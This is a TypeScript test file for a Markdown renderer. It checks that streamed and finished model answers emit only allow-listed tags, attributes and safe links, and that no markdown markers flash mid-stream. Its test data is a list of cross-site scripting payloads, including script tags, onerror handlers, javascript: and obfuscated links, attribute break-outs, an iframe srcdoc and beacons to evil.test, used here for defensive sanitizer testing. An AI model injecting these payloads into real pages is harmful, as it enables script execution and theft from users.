import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown } from './markdown.tsx';

const render = (text: string, streaming: boolean): string =>
  renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);

const ALLOWED_TAGS = new Set(
  'div h3 h4 h5 h6 p strong em s code pre figure figcaption span button svg path rect ul ol li table thead tbody tr th td blockquote hr br a sup'.split(
    ' ',
  ),
);
const ALLOWED_ATTRIBUTES = new Set(
  'class dir role aria-level aria-label aria-hidden title data-tip type tabindex scope start href target rel width height viewBox fill stroke stroke-width stroke-linecap stroke-linejoin xmlns d x y rx ry'.split(
    ' ',
  ),
);

/** What the markup holds that no answer may: tags, attributes and addresses outside of the list. */
function findHoles(markup: string): string[] {
  const holes: string[] = [];
  for (const [, tag = '', attributes = ''] of markup.matchAll(/<([a-zA-Z][^\s/>]*)((?:"[^"]*"|[^">])*)>/g)) {
    if (!ALLOWED_TAGS.has(tag)) holes.push(`<${tag}>`);
    for (const [, name = '', value = ''] of attributes.matchAll(/([^\s=/"]+)(?:="([^"]*)")?/g)) {
      if (!ALLOWED_ATTRIBUTES.has(name)) holes.push(`${tag}[${name}]`);
      if (name === 'href' && !/^(?:https:\/\/|mailto:)/.test(value)) holes.push(`href ${value}`);
    }
  }
  return holes;
}

const HOSTILE = {
  script: 'a <script>alert(1)</script> b',
  'image tag': 'a <img src="https://evil.test/x.png" onerror=alert(1)> b',
  'remote image': 'look ![secret](https://evil.test/collect?d=1 "t") here',
  'image by reference': '![x][pic]\n\n[pic]: https://evil.test/pic.png',
  'javascript link': '[click](javascript:alert(1)) and [again](JaVaScRiPt:alert(1))',
  'javascript link with control characters':
    '[click](java\u0000script:alert(1)) [b](\u0001javascript:alert(1)) [c](java\tscript:alert(1))',
  'javascript link by entity': '[click](&#106;avascript:alert(1)) [d](javascript&colon;alert(1))',
  'data link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'vbscript, file and http links':
    '[a](vbscript:x) [b](file:///etc/passwd) [c](http://plain.test) [d](//evil.test) [e](/admin) [f](#x)',
  'link with credentials': '[bank](https://bank.test@evil.test/)',
  'link by reference': '[click][1]\n\n[1]: javascript:alert(1)',
  autolink: '<javascript:alert(1)> <https://ok.test/"onmouseover="alert(1)>',
  svg: '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  style: '<style>body{display:none}</style><p style="position:fixed">x</p>',
  form: '<form action="https://evil.test"><input name=a><button>go</button></form>',
  iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'attribute break-out in a title': '[x](https://ok.test "a\\" onmouseover=\\"alert(1)")',
  'attribute break-out in a fence': '```js" onclick="alert(1)\ncode\n```',
  'fence title': '```js title="<img src=x onerror=alert(1)>"\ncode\n```',
  'html in a table': '| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  'html comment': '<!-- <img src=x onerror=alert(1)> -->',
  'component comment': '<!-- ::start:tabs -->\n<script>alert(1)</script>\n<!-- ::end:tabs -->',
  footnote: 'a[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  'nested emphasis': '**[*x*](javascript:alert(1))** ~~<b onclick=alert(1)>~~',
  frontmatter: '---\ntitle: <script>\n---\n<script>alert(1)</script>',
} as const;

describe('R32: model text renders only what the list allows', () => {
  test.each(Object.entries(HOSTILE))('%s, at every chunk boundary', (_name, source) => {
    for (let length = 1; length <= source.length; length++) {
      const part = source.slice(0, length);
      expect({ part, holes: findHoles(render(part, true)) }).toEqual({ part, holes: [] });
      expect({ part, holes: findHoles(render(part, false)) }).toEqual({ part, holes: [] });
    }
  });

  test('the search for holes finds one', () => {
    expect(findHoles('<p><img src="https://x.test/y.png"><a href="javascript:x" onclick="y">z</a></p>')).toEqual([
      '<img>',
      'img[src]',
      'href javascript:x',
      'a[onclick]',
    ]);
  });

  test('raw HTML shows as the text that it is', () => {
    expect(render('a <b>c</b>', false)).toContain('a &lt;b&gt;c&lt;/b&gt;');
  });

  test('an image becomes a link to its address, so nothing is requested', () => {
    const markup = render('![chart](https://ok.test/c.png)', false);
    expect(markup).toContain('href="https://ok.test/c.png"');
    expect(markup).toContain('>chart</a>');
  });

  test('links open apart from the page and say nothing about it', () => {
    const markup = render('[a](https://ok.test) [b](mailto:a@ok.test)', false);
    expect(markup.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(2);
    expect(markup.match(/target="_blank"/g)).toHaveLength(2);
  });
});

const ANSWER = `Here is a **bold \`code\`** word, *soft*, ~~gone~~ and a [link](https://ok.test/a_b).

## Steps to \`take\`

1. **First** thing
2. Second
   - inner *one*
   - inner two

| Part | **Count** |
| :--- | ---: |
| \`P-1\` | 2 |

\`\`\`ts
const a = 1 ** 2;
\`\`\`

> A *quoted* line

- [x] done
- [ ] open

***Both*** and __also__ end.`;

/** The words a reader sees outside of code. */
const visible = (markup: string): string =>
  markup
    .replace(/<(pre|code)\b[^>]*>.*?<\/\1>/gs, '')
    .replace(/<[^>]+>/g, ' ')
    .replace(/&gt;/g, '>');

describe('U15: no marker flashes while an answer streams', () => {
  test('at every chunk boundary of an answer with all kinds of blocks', () => {
    for (let length = 1; length <= ANSWER.length; length++) {
      const part = ANSWER.slice(0, length);
      const raw = /\*|`|~~|__|\]\(|\||#|\[|(?:^|\s)>/.exec(visible(render(part, true)));
      expect({ part, raw: raw?.[0] ?? null }).toEqual({ part, raw: null });
    }
  });

  test('the whole answer has all of its blocks', () => {
    const markup = render(ANSWER, false);
    for (const piece of [
      '<strong',
      '<em>',
      '<s>',
      '<h3',
      '<ol',
      '<ul',
      '<table',
      '<pre',
      '<blockquote',
      'aria-label="Done:"',
      'aria-label="Open:"',
    ]) {
      expect(markup).toContain(piece);
    }
  });

  test('a finished answer keeps markers that mean nothing', () => {
    expect(render('2 * 3 and a_b and 100 % #1', false)).toContain('2 * 3 and a_b and 100 % #1');
  });
});
